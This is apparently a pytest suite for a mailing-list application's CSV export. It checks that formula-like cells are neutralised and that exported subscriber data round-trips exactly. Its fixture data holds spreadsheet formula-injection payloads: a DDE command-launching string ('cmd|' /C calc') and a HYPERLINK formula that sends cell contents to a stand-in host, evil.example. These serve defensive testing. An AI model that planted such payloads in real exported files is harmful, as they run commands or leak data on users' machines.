"""Export on SQLite and PostgreSQL: attributes as columns, no spreadsheet formula, exact round trip."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from mailer.store import Database, open_database
from mailer.store.models import Subscriber
from mailer.subscribers.actions import unsubscribe
from mailer.subscribers.export import export_csv, neutralise, restore
from mailer.subscribers.importer import import_csv

# Every column, formulas an attacker (or a spreadsheet user) planted, quotes, tabs, Unicode.
PEOPLE = (
    "email,name,locale,country,topics,alerts,lists,status,signed_nso,=cmd|' /C calc'!A0,note\n"
    'ana@example.org,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",fr_BE,BE,'
    "NSO Group;surveillance,true,press,,yes,x,\n"
    "bert@example.org,+32 2 555 55 55,nl,NL,=1+1;refugees,false,,,no,,@SUM(1+1)*cmd|' /C calc'!A0\n"
    "carl@example.org,-Carl,de,DE,,none,donors;press,unsubscribed,,,'=already quoted\n"
    "dora@example.org,''@twice,ar,MA,,true,,,,,'plain quote\n"
    'emil@example.org,Émile Zoé,en,GB,,true,,bounced,yes,,"\tTab"\n'
)
FIELDS = (
    "email",
    "name",
    "locale",
    "country",
    "topics",
    "alert_pref",
    "lists",
    "status",
    "consent_at",
    "consent_source",
    "consent_method",
    "attributes",
)


@pytest.fixture
def db(database_url: str) -> Iterator[Database]:
    database = open_database(database_url)
    try:
        yield database
    finally:
        database.dispose()


def _everyone(db: Database) -> dict[str, dict[str, Any]]:
    with db.session() as session:
        return {
            row.email: {f: getattr(row, f) for f in FIELDS}
            for row in session.scalars(select(Subscriber).order_by(Subscriber.email))
        }


def _population(db: Database, tmp_path: Path) -> None:
    people = tmp_path / "people.csv"
    people.write_text(PEOPLE, encoding="utf-8")
    report = import_csv(db, people, consented=True)
    assert report.rejected_count == 0, report.rejected
    with db.session() as session:
        unsubscribe(session, "dora@example.org", how="page")  # an attribute of mailer's own


def test_no_exported_cell_starts_a_formula(db: Database, tmp_path: Path) -> None:
    _population(db, tmp_path)
    exported = tmp_path / "export.csv"
    assert export_csv(db, exported) == 5
    with exported.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    assert header[:11] == [
        "email",
        "name",
        "locale",
        "country",
        "topics",
        "alerts",
        "lists",
        "status",
        "consent_at",
        "consent_source",
        "consent_method",
    ]
    assert header[11:] == ["'=cmd|' /c calc'!a0", "note", "signed_nso", "unsubscribed_via"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    ana = next(r for r in rows if r[0] == "ana@example.org")
    assert ana[1] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows[2][4] == "'=1+1;refugees"  # topics: the first cell character counts


def test_an_export_imported_again_changes_nothing(db: Database, tmp_path: Path) -> None:
    _population(db, tmp_path)
    before = _everyone(db)
    assert before["ana@example.org"]["name"].startswith("=HYPERLINK(")
    assert before["bert@example.org"]["attributes"] == {
        "note": "@SUM(1+1)*cmd|' /C calc'!A0",
        "signed_nso": "no",
    }
    # A cell that arrives neutralised (a spreadsheet's, or ours) is read as its value.
    assert before["carl@example.org"]["attributes"] == {"note": "=already quoted"}
    assert before["dora@example.org"]["attributes"] == {
        "note": "'plain quote",
        "unsubscribed_via": "page",
    }
    exported = tmp_path / "export.csv"
    export_csv(db, exported)
    for consented in (False, True):
        report = import_csv(db, exported, consented=consented)
        # Those who left (unsubscribed, bounced, complained) are refused and left as they are.
        assert (report.created, report.rejected_count) == (0, 0)
        assert report.updated + report.suppressed == 5
        assert _everyone(db) == before


def test_an_export_imported_elsewhere_gives_the_same_subscribers(
    db: Database, tmp_path: Path
) -> None:
    _population(db, tmp_path)
    exported = tmp_path / "export.csv"
    export_csv(db, exported)
    elsewhere = open_database(f"sqlite:///{tmp_path}/elsewhere.db")
    try:
        import_csv(elsewhere, exported, consented=True)
        assert _everyone(elsewhere) == _everyone(db)  # the consent record travels too
        again = tmp_path / "again.csv"
        export_csv(elsewhere, again)
    finally:
        elsewhere.dispose()
    assert again.read_bytes() == exported.read_bytes()


@pytest.mark.parametrize(
    "value",
    ["=1", "+", "-", "@", "\tx", "\rx", "'=1", "''=1", "'", "''", "'a", "a=1", "", "x'=", "=='"],
)
def test_neutralised_cells_restore_exactly(value: str) -> None:
    cell = neutralise(value)
    assert restore(cell) == value
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
